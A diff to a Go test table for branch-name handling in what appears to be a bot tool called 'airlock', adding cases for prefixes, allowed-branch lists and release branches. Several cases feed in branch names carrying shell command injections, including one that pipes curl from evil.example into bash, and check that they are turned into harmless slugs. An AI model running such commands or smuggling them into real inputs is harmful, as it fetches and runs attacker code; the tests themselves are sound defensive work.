@@ -210,7 +210,21 @@ func TestBranch(t *testing.T) {
 		want     string
 		rule     string // of the note, or of the refusal where want is "denied"
 	}{
-		{"the item's", ChangeSettings{}, "fix", "fix", ""},
+		{"the item's", ChangeSettings{}, "fix", "airlock/fix", RuleBranch},
+		{"the item's, as it is", ChangeSettings{}, "airlock/fix", "airlock/fix", ""},
+		{"the prefix alone", ChangeSettings{}, "airlock/", "airlock/airlock-fac15733", RuleBranch},
+		{"a command", ChangeSettings{}, "fix/$({curl,evil.example}|bash)", "airlock/fix/curl-evil.example-bash-bc94b322", RuleBranch},
+		{"a command below the prefix", ChangeSettings{}, "airlock/$(id)", "airlock/id-0549ad88", RuleBranch},
+		{"a command below the owner's prefix", ChangeSettings{BranchPrefix: "bot/"}, "bot/`id`", "bot/id-a080f16a", RuleBranch},
+		{"a command on a list of all", ChangeSettings{AllowedBranches: []string{"**"}}, "a;b", "a-b-5719af18", RuleBranch},
+		{"a release", ChangeSettings{}, "release/1.0", "airlock/release/1.0", RuleBranch},
+		{"a release on a list of all", ChangeSettings{AllowedBranches: []string{"**"}}, "release/1.0", "airlock/release/1.0", RuleBranch},
+		{"a release on the list", ChangeSettings{AllowedBranches: []string{"release/*"}}, "release/1.0", "release/1.0", ""},
+		{"pages where releases are on the list", ChangeSettings{AllowedBranches: []string{"release/*", "**"}}, "gh-pages", "airlock/gh-pages", RuleBranch},
+		{"pages where they are not", ChangeSettings{AllowedBranches: []string{"*"}}, "gh-pages", "denied", RuleAllowedBranches},
+		{"pages on the list", ChangeSettings{AllowedBranches: []string{"gh-pages"}}, "gh-pages", "gh-pages", ""},
+		{"another bot's, by half of a prefix", ChangeSettings{BranchPrefix: "dep"}, "dependabot/x", "depdependabot/x", RuleBranch},
+		{"the prefix of a release", ChangeSettings{BranchPrefix: "release/"}, "x", "release/x", RuleBranch},
 		{"none", ChangeSettings{}, "", "", ""},
 		{"configured", ChangeSettings{Branch: "bot/x"}, "", "bot/x", ""},
 		{"configured, another asked for", ChangeSettings{Branch: "bot/x"}, "main", "bot/x", RuleBranch},
